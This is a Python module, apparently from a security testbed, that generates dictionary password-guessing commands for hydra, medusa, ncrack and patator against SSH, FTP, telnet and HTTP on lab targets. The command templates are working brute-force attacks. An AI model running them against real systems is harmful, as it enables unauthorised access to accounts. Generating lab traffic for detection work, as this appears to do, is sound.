"""Dictionary attacks: user names and passwords from short lists."""

from __future__ import annotations

import random
from collections.abc import Callable

from testbed.attacks.tool import Commands, Target, Tool
from testbed.command_words import words

DICTIONARY = "Dictionary Attack"
GUESSING = "T1110.001"
LISTS = {"users": ("", "2"), "passwords": ("", "2")}
PORTS = {"ssh": 22, "ftp": 21, "telnet": 23, "web": 80}


def _lists(target: Target, s: dict) -> tuple[str, str]:
    return f"{target.files}/users{s['users']}.txt", f"{target.files}/passwords{s['passwords']}.txt"


def _hydra(target: Target, s: dict, rng: random.Random) -> Commands:
    users, passwords = _lists(target, s)
    path = "/private/" if s["service"] == "http-get" else ""
    return [
        words(
            f"hydra -I -q -t {s['tasks']} -W {s['wait']} -L {users} -P {passwords} "
            f"{'-u' if s['spray'] else ''} {target.family} {s['service']}://{target.in_url}{path}"
        )
    ]


def _medusa(target: Target, s: dict, rng: random.Random) -> Commands:
    users, passwords = _lists(target, s)
    path = "-m DIR:/private" if s["service"] == "http" else ""
    return [
        words(
            f"medusa -h {target.address} -U {users} -P {passwords} -M {s['service']} "
            f"-t {s['tasks']} -b -v 2 {path}"
        )
    ]


def _ncrack(target: Target, s: dict, rng: random.Random) -> Commands:
    users, passwords = _lists(target, s)
    return [
        words(
            f"ncrack -U {users} -P {passwords} -T{s['timing']} "
            f"-g CL={s['tasks']},at={s['attempts']},cd=0 {s['service']}://{target.address}"
        )
    ]


def _patator(target: Target, s: dict, rng: random.Random) -> Commands:
    users, passwords = _lists(target, s)
    where = (
        # Without an entry to resolve it hands libcurl an empty one, which refuses it.
        f"url=http://{target.in_url}/private/ user_pass=FILE0:FILE1 resolve=lab:{target.address}"
        if s["service"] == "http_fuzz"
        else f"host={target.address} user=FILE0 password=FILE1"
    )
    return [
        words(
            f"patator {s['service']} {where} 0={users} 1={passwords} -t {s['tasks']} "
            f"--rate-limit {s['wait']} --max-retries 0"
        )
    ]


def _tools(
    name: str,
    services: dict[str, str],
    commands: Callable[[Target, dict, random.Random], Commands],
    settings: dict[str, tuple],
    ipv6: bool = False,
) -> list[Tool]:
    """One tool a service; `services` maps our name of it to the program's."""
    return [
        Tool(
            name, f"{ours} passwords", DICTIONARY, GUESSING, ours, "tcp", (PORTS[ours],),
            {"service": (theirs,), **LISTS, **settings}, commands, 30, ipv6,
        )
        for ours, theirs in services.items()
    ]  # fmt: skip


TOOLS = (
    *_tools(
        "hydra",
        {"ssh": "ssh", "ftp": "ftp", "telnet": "telnet", "web": "http-get"},
        _hydra,
        {"tasks": (2, 4), "wait": (0, 1), "spray": (False, True)},
        ipv6=True,
    ),
    *_tools(
        "medusa",
        {"ssh": "ssh", "ftp": "ftp", "telnet": "telnet", "web": "http"},
        _medusa,
        {"tasks": (2, 4)},
    ),
    *_tools(
        "ncrack",
        {"ssh": "ssh", "ftp": "ftp", "telnet": "telnet"},
        _ncrack,
        {"timing": (3, 4), "tasks": (2, 5), "attempts": (3, 0)},
    ),
    *_tools(
        "patator",
        {"ssh": "ssh_login", "ftp": "ftp_login", "web": "http_fuzz"},
        _patator,
        {"tasks": (2, 4), "wait": (0, 0.1)},
    ),
)
